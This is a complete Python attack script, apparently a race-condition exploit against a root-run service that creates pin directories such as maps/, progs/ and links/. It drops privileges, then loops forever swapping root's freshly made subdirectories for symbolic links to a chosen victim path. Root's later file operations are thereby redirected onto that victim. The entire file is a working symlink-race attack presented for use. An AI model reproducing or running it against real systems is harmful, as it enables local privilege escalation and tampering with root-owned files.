# SPDX-License-Identifier: MIT
"""A user who owns the pin directory, and swaps it under root's hands as soon as there is something.

`python racer.py UID GROUP DIRECTORY VICTIM NAME…` becomes that user, makes DIRECTORY, and beside it
DIRECTORY-own with symbolic links to VICTIM, of the NAMEs of our pins. When root has made maps/,
progs/ or links/, that is renamed, and a link to DIRECTORY-own put in its place: who then changes
what is below it by its path changes VICTIM. Every other time at once; else not before root has let
a group into DIRECTORY, when all is pinned. Goes on until it is killed. Standard library only.
"""

from __future__ import annotations

import os
import sys
from contextlib import suppress
from pathlib import Path

PARTS = ("maps", "progs", "links", "readers")


def make(directory: Path, own: Path, victim: str, names: list[str]) -> None:
    """As it is before root comes; again when root has cleared it away."""
    for one in (directory, own):
        one.mkdir(mode=0o700, exist_ok=True)
    if not (directory / "maps").exists():
        directory.chmod(0o700)
    for name in names:
        with suppress(FileExistsError):
            (own / name).symlink_to(victim)


def swap(directory: Path, own: Path, number: int) -> None:
    """Of what root has made in it."""
    maps = directory / "maps"
    while number % 2 and maps.exists() and not directory.stat().st_mode & 0o040:
        pass
    for part in PARTS:
        place = directory / part
        if place.is_dir() and not place.is_symlink():
            place.rename(directory / f"was{number}{part}")
            place.symlink_to(own)


def main() -> None:
    """See above."""
    uid, group, directory = int(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3])
    own = directory.with_name(f"{directory.name}-own")
    os.setgroups([group])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    number = 0
    print("ready", flush=True)
    while True:
        number += 1
        with suppress(OSError):
            make(directory, own, sys.argv[4], sys.argv[5:])
        with suppress(OSError):
            swap(directory, own, number)


if __name__ == "__main__":
    main()
